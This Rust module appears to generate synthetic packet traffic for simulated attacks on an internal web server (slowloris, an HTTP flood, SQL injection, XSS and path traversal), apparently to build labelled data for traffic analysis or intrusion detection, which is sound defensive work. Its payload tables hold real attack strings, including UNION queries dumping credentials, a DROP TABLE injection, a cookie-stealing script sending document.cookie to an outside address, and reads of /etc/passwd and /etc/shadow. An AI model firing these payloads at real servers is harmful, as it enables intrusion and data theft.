//! Attacks on an internal web server (port 80) from one external host: slowloris, an HTTP
//! flood, and requests carrying SQL injection, cross-site scripting or path traversal.

use super::super::scenario::{Ctx, Played, Window};
use super::super::wire::{http_date, v4_text, Conn, Side};
use super::ephemeral_ports;

/// Connections slowloris holds open (its default).
pub(crate) const SLOWLORIS_SOCKETS: usize = 150;
/// Header lines each slowloris connection trickles after its first, spread over the window.
const SLOWLORIS_ROUNDS: usize = 6;
/// Connections of `http_flood`.
pub(crate) const FLOOD_CONNECTIONS: usize = 1_000;
/// Keep-alive GETs per `http_flood` connection.
const FLOOD_REQUESTS: usize = 5;

const BROWSERS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
];

/// The attacker and the web server.
fn hosts(cx: &mut Ctx) -> (Side, Side) {
    let attacker = cx.addrs.external(&mut cx.rng);
    let attacker = Side::far(attacker, &mut cx.rng);
    let server = cx.addrs.internal(&mut cx.rng);
    let server = Side::near(server, &mut cx.rng);
    (attacker, server)
}

/// An Apache response with `status` and an HTML `body`.
fn response(status: u16, t: i64, body: &str) -> Vec<u8> {
    let reason = match status {
        200 => "OK",
        302 => "Found",
        400 => "Bad Request",
        403 => "Forbidden",
        404 => "Not Found",
        _ => "Internal Server Error",
    };
    let location = if status == 302 {
        "Location: /login.php?error=1\r\n"
    } else {
        ""
    };
    format!(
        "HTTP/1.1 {status} {reason}\r\nDate: {}\r\nServer: Apache/2.4.57 (Debian)\r\n\
         X-Powered-By: PHP/8.2.7\r\n{location}Content-Length: {}\r\n\
         Content-Type: text/html; charset=UTF-8\r\n\r\n{body}",
        http_date(t),
        body.len()
    )
    .into_bytes()
}

/// `slowloris`: 150 connections opened at the start (over a tenth of the window, at most 2 s),
/// each sending a request line and two headers but never the blank line that ends them, then
/// one more `X-a:` header line at each of 6 rounds evenly over the window (the server
/// acknowledges each); when the attack stops, each client closes (FIN, FIN, ACK). Each
/// connection is one flow (the window stays under the meter's 120 s active timeout).
pub(crate) fn slowloris(cx: &mut Ctx, w: Window) -> Played {
    let (attacker, server) = hosts(cx);
    let ports = ephemeral_ports(&mut cx.rng, SLOWLORIS_SOCKETS);
    let opening = (w.dur / 10).min(2_000_000);
    let ua = BROWSERS[cx.rng.usize(..BROWSERS.len())];
    let mut conns = Vec::with_capacity(SLOWLORIS_SOCKETS);
    for (i, port) in ports.into_iter().enumerate() {
        let t = w.start + opening * i as i64 / SLOWLORIS_SOCKETS as i64;
        let mut c = Conn::new(&mut cx.rng, attacker, server, port, 80, t);
        c.handshake(&mut cx.out);
        let partial = format!(
            "GET /?{} HTTP/1.1\r\nUser-Agent: {ua}\r\nAccept-language: en-US,en,q=0.5\r\n",
            cx.rng.u32(0..2000)
        );
        c.send(&mut cx.out, true, partial.into_bytes(), 100);
        c.ack(&mut cx.out, false, server.reply_us);
        conns.push(c);
    }
    for k in 1..=SLOWLORIS_ROUNDS {
        let round = w.at(k, SLOWLORIS_ROUNDS + 1);
        for (i, c) in conns.iter_mut().enumerate() {
            c.t = round + 150 * i as i64;
            let line = format!("X-a: {}\r\n", cx.rng.u32(1..5000));
            c.send(&mut cx.out, true, line.into_bytes(), 0);
            c.ack(&mut cx.out, false, server.reply_us);
        }
    }
    for (i, c) in conns.iter_mut().enumerate() {
        c.t = w.end() + 100 * i as i64;
        c.close(&mut cx.out, true, 0);
    }
    Played {
        attacker: Some(attacker.addr),
        victim: Some(server.addr),
        flows: SLOWLORIS_SOCKETS as u64,
    }
}

/// The page every flood request gets (about 2 KB: two segments).
fn index_page() -> String {
    let mut s = String::from(
        "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>Intranet</title>\
         <link rel=\"stylesheet\" href=\"/static/site.css\"></head><body><header><h1>Intranet \
         portal</h1><nav><a href=\"/\">Home</a> <a href=\"/docs\">Documents</a> <a \
         href=\"/search.php\">Search</a></nav></header><main>\n",
    );
    for i in 1..=12 {
        s.push_str(&format!(
            "<article><h2>Notice {i}</h2><p>Scheduled maintenance of service {i} will take \
             place this weekend; expect short interruptions.</p></article>\n"
        ));
    }
    s.push_str("</main><footer>IT department</footer></body></html>\n");
    s
}

/// `http_flood`: 1,000 connections (HULK-style), each 5 keep-alive `GET /?key=value` with a
/// random query (to defeat caches), random browser User-Agent and Referer, answered `200` with
/// a ~2 KB page; the client closes. One flow per connection.
pub(crate) fn flood(cx: &mut Ctx, w: Window) -> Played {
    let (attacker, server) = hosts(cx);
    let host = v4_text(server.addr);
    let ports = ephemeral_ports(&mut cx.rng, FLOOD_CONNECTIONS);
    let page = index_page();
    for (i, port) in ports.into_iter().enumerate() {
        let t = w.at(i, FLOOD_CONNECTIONS);
        let mut c = Conn::new(&mut cx.rng, attacker, server, port, 80, t);
        c.handshake(&mut cx.out);
        for _ in 0..FLOOD_REQUESTS {
            let rng = &mut cx.rng;
            let word = |r: &mut fastrand::Rng| -> String {
                (0..r.usize(3..10)).map(|_| r.alphabetic()).collect()
            };
            let req = format!(
                "GET /?{}={} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\n\
                 Cache-Control: no-cache\r\nAccept-Charset: ISO-8859-1,utf-8;q=0.7,*;q=0.7\r\n\
                 Referer: http://www.example.com/?q={}\r\nKeep-Alive: {}\r\n\
                 Connection: keep-alive\r\n\r\n",
                word(rng),
                word(rng),
                BROWSERS[rng.usize(..BROWSERS.len())],
                word(rng),
                rng.u32(110..120)
            );
            let think = cx.rng.i64(800..3_000);
            c.exchange(
                &mut cx.out,
                req.into_bytes(),
                response(200, c.t, &page),
                think,
            );
        }
        c.close(&mut cx.out, true, 100);
    }
    Played {
        attacker: Some(attacker.addr),
        victim: Some(server.addr),
        flows: FLOOD_CONNECTIONS as u64,
    }
}

/// Which web attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum WebAttack {
    SqlInjection,
    Xss,
    PathTraversal,
}

/// One crafted request: method, target, form body, and the status it gets.
type Probe = (&'static str, &'static str, Option<&'static str>, u16);

const SQLI: [Probe; 12] = [
    ("GET", "/products.php?id=1'", None, 500),
    ("GET", "/products.php?id=1'+OR+1=1--", None, 200),
    ("GET", "/products.php?id=1%27%20OR%201%3D1--%20", None, 200),
    (
        "GET",
        "/products.php?id=1%20UNION%20SELECT%20NULL,username,password%20FROM%20users--%20",
        None,
        200,
    ),
    ("GET", "/products.php?id=1+UNION+SELECT+1,2,3,4--", None, 500),
    (
        "GET",
        "/products.php?id=-1%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x716b6a7671,IFNULL(CAST(user()%20AS%20CHAR),0x20),0x7170767871),NULL--%20-",
        None,
        200,
    ),
    (
        "GET",
        "/products.php?id=1%27%20AND%20(SELECT%202%20FROM(SELECT%20COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x%20FROM%20information_schema.tables%20GROUP%20BY%20x)a)--%20",
        None,
        500,
    ),
    ("GET", "/products.php?id=1%20AND%201=1", None, 200),
    ("GET", "/products.php?id=1%20AND%201=2", None, 200),
    ("POST", "/login.php", Some("username=admin%27--&password=x"), 302),
    (
        "POST",
        "/login.php",
        Some("username=admin' OR '1'='1&password=x"),
        302,
    ),
    (
        "GET",
        "/search.php?q=%27%3B%20DROP%20TABLE%20users--%20",
        None,
        500,
    ),
];

const XSS: [Probe; 9] = [
    ("GET", "/search.php?q=<script>alert(1)</script>", None, 200),
    ("GET", "/search.php?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", None, 200),
    (
        "GET",
        "/search.php?q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E",
        None,
        200,
    ),
    ("GET", "/search.php?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E", None, 200),
    (
        "GET",
        "/search.php?q=%3CScRiPt%3Ealert(String.fromCharCode(88,83,83))%3C%2FsCrIpT%3E",
        None,
        200,
    ),
    (
        "GET",
        "/profile.php?name=%3Cbody%20onload%3Dalert(%27xss%27)%3E",
        None,
        200,
    ),
    ("GET", "/search.php?q=javascript:alert(1)", None, 200),
    (
        "POST",
        "/comment.php",
        Some("comment=<script>alert(1)</script>&submit=Post"),
        200,
    ),
    (
        "POST",
        "/comment.php",
        Some("comment=%3Cscript%3Enew%20Image().src%3D%27http%3A%2F%2F203.0.113.9%2Fc%3F%27%2Bdocument.cookie%3C%2Fscript%3E&submit=Post"),
        200,
    ),
];

const TRAVERSAL: [Probe; 10] = [
    (
        "GET",
        "/download.php?file=../../../../etc/passwd",
        None,
        200,
    ),
    (
        "GET",
        "/download.php?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        None,
        200,
    ),
    (
        "GET",
        "/download.php?file=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        None,
        200,
    ),
    (
        "GET",
        "/download.php?file=....//....//....//....//etc/passwd",
        None,
        404,
    ),
    (
        "GET",
        "/static/..%252f..%252f..%252f..%252fetc/passwd",
        None,
        404,
    ),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", None, 403),
    (
        "GET",
        "/download.php?file=..%5c..%5c..%5c..%5cwindows%5cwin.ini",
        None,
        404,
    ),
    ("GET", "/images/../../../../etc/shadow", None, 400),
    ("GET", "/download.php?file=/etc/passwd%00.pdf", None, 404),
    (
        "GET",
        "/download.php?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        None,
        400,
    ),
];

impl WebAttack {
    /// Requests sent (one connection each).
    pub(crate) fn requests(self) -> usize {
        match self {
            WebAttack::SqlInjection => 40,
            WebAttack::Xss | WebAttack::PathTraversal => 30,
        }
    }

    fn probes(self) -> &'static [Probe] {
        match self {
            WebAttack::SqlInjection => &SQLI,
            WebAttack::Xss => &XSS,
            WebAttack::PathTraversal => &TRAVERSAL,
        }
    }

    fn user_agent(self) -> &'static str {
        match self {
            WebAttack::SqlInjection => "sqlmap/1.7.2#stable (https://sqlmap.org)",
            WebAttack::Xss => BROWSERS[1],
            WebAttack::PathTraversal => "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
        }
    }

    /// The page a probe gets back with `status`.
    fn page(self, status: u16, probe: &Probe) -> String {
        match (self, status) {
            (WebAttack::SqlInjection, 500) => "<br />\n<b>Fatal error</b>: Uncaught mysqli_sql_exception: You have an \
                 error in your SQL syntax; check the manual that corresponds to your MySQL server \
                 version for the right syntax to use near ''' at line 1 in \
                 /var/www/html/products.php:14\n"
                .into(),
            (WebAttack::SqlInjection, 200) => {
                let mut s = String::from(
                    "<html><head><title>Products</title></head><body><table>\n",
                );
                for (id, name) in [(1, "Widget"), (2, "Gadget"), (3, "Doohickey")] {
                    s.push_str(&format!("<tr><td>{id}</td><td>{name}</td></tr>\n"));
                }
                if probe.1.contains("UNION") {
                    s.push_str("<tr><td>admin</td><td>5f4dcc3b5aa765d61d8327deb882cf99</td></tr>\n");
                }
                s.push_str("</table></body></html>\n");
                s
            }
            (WebAttack::Xss, _) => {
                let shown = probe.2.unwrap_or(probe.1);
                format!(
                    "<html><head><title>Search</title></head><body><p>Results for: {shown}</p>\
                     <p>No results.</p></body></html>\n"
                )
            }
            (WebAttack::PathTraversal, 200) => "root:x:0:0:root:/root:/bin/bash\n\
                 daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\n\
                 sys:x:3:3:sys:/dev:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n\
                 mysql:x:106:112:MySQL Server,,,:/nonexistent:/bin/false\n"
                .into(),
            (_, 302) => String::new(),
            (_, s) => format!(
                "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n\
                 <title>{s}</title>\n</head><body>\n<h1>Error {s}</h1>\n</body></html>\n"
            ),
        }
    }
}

/// `sql_injection`, `xss`, `path_traversal`: requests from one external host, one connection
/// each, cycling through the attack's payloads (raw and URL-encoded variants), each answered
/// as a vulnerable PHP application on Apache would; the client closes.
pub(crate) fn web_attack(cx: &mut Ctx, w: Window, kind: WebAttack) -> Played {
    let (attacker, server) = hosts(cx);
    let host = v4_text(server.addr);
    let n = kind.requests();
    let ports = ephemeral_ports(&mut cx.rng, n);
    let probes = kind.probes();
    for (i, port) in ports.into_iter().enumerate() {
        let probe = &probes[i % probes.len()];
        let (method, target, body, status) = *probe;
        let t = w.at(i, n);
        let mut req = format!(
            "{method} {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\nAccept: */*\r\n",
            kind.user_agent()
        );
        if let Some(b) = body {
            req.push_str(&format!(
                "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{b}",
                b.len()
            ));
        } else {
            req.push_str("\r\n");
        }
        let mut c = Conn::new(&mut cx.rng, attacker, server, port, 80, t);
        c.handshake(&mut cx.out);
        let think = cx.rng.i64(2_000..20_000);
        let resp = response(status, t, &kind.page(status, probe));
        c.exchange(&mut cx.out, req.into_bytes(), resp, think);
        c.close(&mut cx.out, true, 200);
    }
    Played {
        attacker: Some(attacker.addr),
        victim: Some(server.addr),
        flows: n as u64,
    }
}
